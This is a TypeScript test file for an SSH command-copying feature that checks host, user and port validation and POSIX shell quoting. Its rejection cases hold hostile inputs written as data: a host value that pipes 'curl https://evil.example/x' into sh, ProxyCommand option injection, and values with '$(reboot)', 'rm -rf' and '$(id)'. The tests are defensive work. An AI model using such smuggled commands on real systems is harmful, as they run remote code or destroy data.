import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import type { HDInsightError } from '../../src/core/errors';
import { shellQuote, sshCommandLine } from '../../src/ssh/command';

const fromSetting = { cluster: 'onprem', hostFrom: 'setting' } as const;

/** The words a POSIX shell makes of the line, without running anything but printf. */
function shellWords(line: string): string[] {
  const out = spawnSync('sh', ['-c', `set -- ${line.replace(/^ssh\b/, '')}; printf '%s\\n' "$@"`], { encoding: 'utf8' });
  assert.equal(out.status, 0, out.stderr);
  return out.stdout.split('\n').filter(Boolean);
}

describe('Copy SSH Command', () => {
  it('copies a plain command for ordinary hosts, users and ports', () => {
    const cases: [{ host: string; port: number }, string, string][] = [
      [{ host: 'contoso-kafka-ssh.azurehdinsight.net', port: 22 }, 'sshuser', 'ssh sshuser@contoso-kafka-ssh.azurehdinsight.net'],
      [{ host: 'edge01.corp.example.com', port: 2222 }, 'j.doe_2', 'ssh -p 2222 j.doe_2@edge01.corp.example.com'],
      [{ host: '10.0.0.12', port: 22 }, 'admin-1', 'ssh admin-1@10.0.0.12'],
      [{ host: 'fe80::1', port: 22 }, 'sshuser', 'ssh sshuser@fe80::1'],
      [{ host: 'head0.', port: 22 }, 'sshuser', 'ssh sshuser@head0.'],
    ];
    for (const [endpoint, user, expected] of cases) {
      assert.equal(sshCommandLine(endpoint, user, fromSetting), expected);
    }
  });

  it('refuses hostile hosts and users before anything is copied, saying which and what to fix', () => {
    const hostile: { host?: string; user?: string; port?: number; error: RegExp }[] = [
      {
        host: 'h.example.com; curl https://evil.example/x | sh',
        error: /SSH host of onprem, "h\.example\.com; curl .*", is not a host name/,
      },
      { host: '-oProxyCommand=touch /tmp/pwned', error: /is not a host name or IP address; nothing was copied/ },
      { host: 'host$(reboot)', error: /is not a host name/ },
      { host: 'host`id`', error: /is not a host name/ },
      { host: 'host name', error: /is not a host name/ },
      { host: 'host\nrm -rf ~', error: /is not a host name/ },
      { host: "it's", error: /is not a host name/ },
      { host: 'a..b', error: /is not a host name/ },
      { host: '-h', error: /is not a host name/ },
      { host: 'host-.example', error: /is not a host name/ },
      { host: '', error: /is not a host name/ },
      { host: `${'a'.repeat(64)}.example`, error: /is not a host name/ },
      { host: 'user@host', error: /is not a host name/ },
      { user: '-oProxyCommand=sh -c id', error: /The SSH user "-oProxyCommand=sh -c id" is not a user name; nothing was copied/ },
      { user: 'root; rm -rf /', error: /is not a user name/ },
      { user: '$(id)', error: /is not a user name/ },
      { user: 'a b', error: /is not a user name/ },
      { user: 'me@other', error: /is not a user name/ },
      { user: 'x'.repeat(65), error: /is not a user name/ },
      { user: "o'neil", error: /is not a user name/ },
      { port: 0, error: /SSH port of onprem, "0", is not a port number/ },
      { port: 22.5, error: /is not a port number/ },
    ];
    for (const { host = 'edge01.example.com', user = 'sshuser', port = 22, error } of hostile) {
      assert.throws(
        () => sshCommandLine({ host, port }, user, fromSetting),
        (err: HDInsightError) => {
          assert.match(err.message, error, JSON.stringify({ host, user, port }));
          return true;
        },
        `accepted ${JSON.stringify({ host, user, port })}`,
      );
    }
  });

  it('says where to fix a bad host: the linked cluster setting, or Azure', () => {
    assert.throws(
      () => sshCommandLine({ host: 'x;y', port: 22 }, 'sshuser', fromSetting),
      (err: HDInsightError) => err.code === 'InvalidSettings' && /sshHost in the setting hdinsight\.linkedClusters/.test(err.action ?? ''),
    );
    assert.throws(
      () => sshCommandLine({ host: 'x;y', port: 22 }, 'sshuser', { cluster: 'contoso-kafka', hostFrom: 'azure' }),
      (err: HDInsightError) => /Azure portal/.test(err.action ?? ''),
    );
  });

  it('quotes for a POSIX shell what is not plainly safe, so the shell sees one word', () => {
    const words = ["it's", 'a b', '$(id)', '`id`', 'x;y', 'new\nline', '', 'plain-word_1.2'];
    for (const word of words) {
      assert.deepEqual(shellWords(shellQuote(word)).join('\n'), word === '' ? '' : word, `quoted: ${shellQuote(word)}`);
    }
    assert.equal(shellQuote('plain-word_1.2'), 'plain-word_1.2');
    assert.equal(shellQuote("it's"), `'it'\\''s'`);
    // What is copied is exactly the command and its argument words: nothing runs besides ssh.
    assert.deepEqual(shellWords(sshCommandLine({ host: 'edge01.example.com', port: 2222 }, 'sshuser', fromSetting)), [
      '-p',
      '2222',
      'sshuser@edge01.example.com',
    ]);
  });
});
